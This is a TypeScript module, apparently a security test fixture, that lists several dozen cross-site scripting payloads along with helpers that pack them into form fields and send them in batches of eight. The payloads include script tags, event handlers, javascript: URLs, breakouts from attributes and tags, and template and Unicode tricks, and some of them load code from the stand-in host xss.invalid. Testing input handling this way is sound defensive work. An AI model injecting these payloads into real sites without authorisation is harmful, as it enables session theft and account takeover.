/**
 * What has run in pages that trusted their users. Each one that runs calls `alert`, `confirm` or `prompt`, or asks the
 * host xss.invalid for something. None is longer than the shortest of the wide fields, the name of a company.
 */
export const PAYLOADS: readonly string[] = [
  // Scripts.
  '<script>alert(1)</script>',
  '<ScRiPt>alert(1)</sCrIpT>',
  '<script src=//xss.invalid/a.js></script>',
  '<script\u000b>alert(1)</script\t>',
  '<script type=module>import("//xss.invalid/m.js")</script>',
  '<svg><script>alert(1)</script></svg>',

  // Handlers that need nobody.
  '<img src=x onerror=alert(1)>',
  '<img src=x onerror="alert(1)"//',
  '<img src=x onerror=\\u0061lert(1)>',
  '<IMG """><img src=x onerror=alert(1)>',
  '<svg/onload=confirm(1)>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<body onpageshow=prompt(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<iframe onload=alert(1)></iframe>',
  '<style onload=alert(1)></style>',
  '<link rel=stylesheet href=//xss.invalid/a.css onerror=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<xss style="animation:spin 1s" onanimationstart=alert(1)>x</xss>',
  '<b onclick=alert(1)>',

  // Addresses.
  'javascript:alert(1)',
  'java\tscript:alert(1)',
  '\u0001javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  '<a href=javascript:alert(1)>x</a>',
  '<iframe src=javascript:alert(1)></iframe>',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<math><a xlink:href=javascript:alert(1)>x</a></math>',
  'https://ornek.test/"onmouseover="alert(1)',

  // Out of an attribute.
  '"><script>alert(1)</script>',
  "'><img src=x onerror=alert(1)>",
  '"autofocus onfocus=alert(1) x="',
  '`onmouseover=alert(1) `',
  '&quot;&gt;&lt;img src=x onerror=alert(1)&gt;',
  '"style="background:url(//xss.invalid/a.png)',

  // Out of the elements of the head, of data blocks and of comments.
  '</title><script>alert(1)</script>',
  '</title><meta http-equiv=refresh content="0;url=//xss.invalid/r">',
  '"><meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '"/><base href=//xss.invalid/><x x="',
  '</script><script>alert(1)</script>',
  '<!--<script>',
  '</textarea><svg onload=alert(1)>',
  '</template></svg></math><svg onload=alert(1)>',
  '<!--page-state--><!--page-body--><!--page-head-->',
  "$&$`$'$1<svg onload=alert(1)>",

  // Out of strings and templates.
  "'-alert(1)-'",
  '\\"-alert(1)}//',
  'x\u2028</script><script>alert(1)//',
  '{{alert(1)}}',
  "{{constructor.constructor('alert(1)')()}}",
  '{"dangerouslySetInnerHTML":{"__html":"<svg onload=alert(1)>"}}',

  // Styles.
  '<style>@import"//xss.invalid/i.css";</style>',
  '}*{background:url(//xss.invalid/c.png)}',

  // Letters that look or become like others.
  '＜script＞alert(1)＜/script＞',
  '\u202e>tpircs/<)1(trela>tpircs<',
  '<İmg src=x onerror=alert(1)>',
  '%3Csvg%20onload%3Dalert(1)%3E',
  '\\u003csvg onload=alert(1)\\u003e',

  // Names that only a confused browser mends.
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img src=x onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<form id=a><input name=attributes><input name=innerHTML></form>',
]

/** All payloads that fit into a field, in as few texts as hold them. */
export function packPayloads(max: number, mark = ' ', fits = (_payload: string) => true): string[] {
  const texts: string[] = []
  const longestFirst = PAYLOADS.toSorted((left, right) => right.length - left.length)
  for (const payload of longestFirst.filter((payload) => payload.length <= max && fits(payload))) {
    const index = texts.findIndex((text) => text.length + mark.length + payload.length <= max)
    if (index < 0) texts.push(payload)
    else texts[index] += mark + payload
  }
  return texts
}

/** Calls at once, but not so many that the server would have to refuse some. */
export async function inTurns<Item, Result>(
  items: readonly Item[],
  act: (item: Item, index: number) => Promise<Result>,
): Promise<Result[]> {
  const results: Result[] = []
  for (let start = 0; start < items.length; start += 8) {
    const some = items.slice(start, start + 8)
    results.push(...(await Promise.all(some.map((item, index) => act(item, start + index)))))
  }
  return results
}
